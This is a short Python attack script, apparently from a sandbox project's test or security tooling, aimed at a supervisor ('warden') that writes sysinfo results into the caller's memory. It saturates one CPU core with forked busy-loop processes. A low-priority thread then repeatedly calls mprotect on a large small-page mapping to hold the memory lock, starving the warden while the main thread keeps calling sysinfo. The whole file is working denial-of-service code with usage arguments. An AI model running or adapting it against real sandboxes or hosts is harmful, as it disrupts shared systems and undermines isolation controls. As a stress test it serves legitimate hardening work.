# SPDX-License-Identifier: Apache-2.0
# Attacks the warden, which writes the answer to sysinfo(2) into the caller's memory: a thread holds
# the lock of that memory in long calls, and gets next to no processor for them.
# usage: hold_memory.py [SECONDS [BURNERS]]
import contextlib
import ctypes
import os
import sys
import threading
import time

seconds = float(sys.argv[1]) if len(sys.argv) > 1 else 3600
burners = int(sys.argv[2]) if len(sys.argv) > 2 else 40
end = time.monotonic() + seconds
SIZE = 96 << 20
libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t] + [ctypes.c_int] * 3 + [ctypes.c_long]
libc.mprotect.argtypes = libc.madvise.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]

core = {max(os.sched_getaffinity(0))}
# First: where no group counts memory, pages that processes share count for each of them.
for _ in range(burners):
    if os.fork() == 0:
        os.sched_setaffinity(0, core)
        while time.monotonic() < end:
            pass
        os._exit(0)
pages = libc.mmap(None, SIZE, 3, 0x22, -1, 0)
libc.madvise(pages, SIZE, 15)  # small pages: each of them takes time
ctypes.memset(pages, 1, SIZE)


def hold():
    os.sched_setaffinity(0, core)
    with contextlib.suppress(OSError):  # which the policy refuses
        os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0))
    os.setpriority(os.PRIO_PROCESS, 0, 19)  # of this thread alone
    while time.monotonic() < end:
        libc.mprotect(pages, SIZE, 1)
        libc.mprotect(pages, SIZE, 3)


threading.Thread(target=hold, daemon=True).start()
room = ctypes.create_string_buffer(256)
while time.monotonic() < end:
    libc.sysinfo(room)
    time.sleep(0.01)
